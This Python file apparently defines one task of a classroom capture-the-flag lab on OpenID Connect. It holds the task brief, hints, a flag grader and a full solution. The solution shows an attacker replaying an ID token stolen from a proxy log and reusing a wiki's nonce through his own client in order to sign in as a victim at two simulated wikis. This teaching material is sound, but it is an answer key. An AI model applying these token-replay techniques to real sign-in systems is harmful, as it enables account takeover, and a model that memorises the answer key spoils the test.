"""04 · OpenID Connect: its target."""

from typing import Any

from labutils.classroom.judging import REFUSED, response_mistake, value
from labutils.classroom.registry import (
    Target,
    code,
)

from .two_wikis import FLAG, board, halves


def flag_mistake(answer: Any) -> str | None:
    """None for the flag, else the name of what was handed in."""
    if answer == FLAG:
        return None
    if answer in halves(FLAG):
        return "half"
    return response_mistake(answer) or "other"


TARGET = Target(
    "04-target",
    "value",
    value(flag_mistake),
    "You are Ada at both wikis. The one in the north compared the nonce, but only a part of the "
    "audience; the one in the south compared the audience, but not the nonce.",
    {
        "other": (
            "That is not the flag. Ada's page at each wiki has a `half`: join the northern one "
            "and the southern one, in that order.",
            "answer = 'flag-0000'",
        ),
        "half": (
            "That is one half. The other one is on Ada's page at the other wiki.",
            "from labutils.lessons.lesson_04.two_wikis import FLAG, halves\n"
            "answer = halves(FLAG)[0]",
        ),
        "response": (
            "That is a whole response. The flag is made of the `half` from each of two pages.",
            "answer = {'hello': 'u-0666'}",
        ),
        "refused": (REFUSED, "answer = {'error': 'the nonce is not the one of this sign-in'}"),
    },
    (
        "For each of the four checks, ask which token of Ada's would get past a wiki that makes it "
        "carelessly or not at all, and whether Tom can have such a token.",
        "The nonce that a wiki sends is in the `location` of its /login. Tom's own application may "
        "send the same one. An error that quotes the audience shows that it is compared, not how. "
        "A token for the wiki itself is in scene.log: read each one first.",
        "South: GET /login, then POST to /cb the token from scene.log that is about u-1815, for "
        "the wiki, and still valid. North: GET /login, take the nonce from the location, "
        "scene.ada_signs_in_at('my-wiki', nonce=...), and POST its ID token.",
    ),
    code("""
        logged = [line.split("id_token_hint=")[1].split()[0] for line in scene.log]
        stolen = [token for token in logged if inspect(token).claims["aud"] == "wiki"][-1]
        scene.tom.get("https://south.example/login")
        asked, flag = scene.tom.get("https://north.example/login").headers["location"], ""
        made = scene.ada_signs_in_at("my-wiki", nonce=asked.split("nonce=")[1])["id_token"]
        for wiki, token in (("north", made), ("south", stolen)):
            scene.tom.post(f"https://{wiki}.example/cb", data={"id_token": token})
            flag += scene.tom.get(f"https://{wiki}.example/page").json()["half"]
    """),
    brief="""Two wikis, https://north.example and https://south.example, belong to one client, \
`wiki`. They get ID tokens in a form. In each, one check is missing or careless, another one in \
each: the issuer, the audience, the times or the nonce. Be Ada at both.
- GET /login begins a sign-in, and redirects to the provider: the nonce is in that URL
- POST /cb with the field `id_token` ends it
- GET /page says who is signed in; Ada's page has half of the flag. Join north and south.
scene.tom is Tom's browser. scene.log has lines from a proxy log, and scene.now is the time. Ada \
signs in to applications of Tom's, too: scene.ada_signs_in_at('some-name', nonce='...') returns \
the tokens that such an application receives. He chooses its client ID, and the nonce that it \
sends. A wiki that has refused three tokens is locked until you restart the kernel.""",
    tools="inspect is in labutils.identity.tokens.",
    scene=board,
)
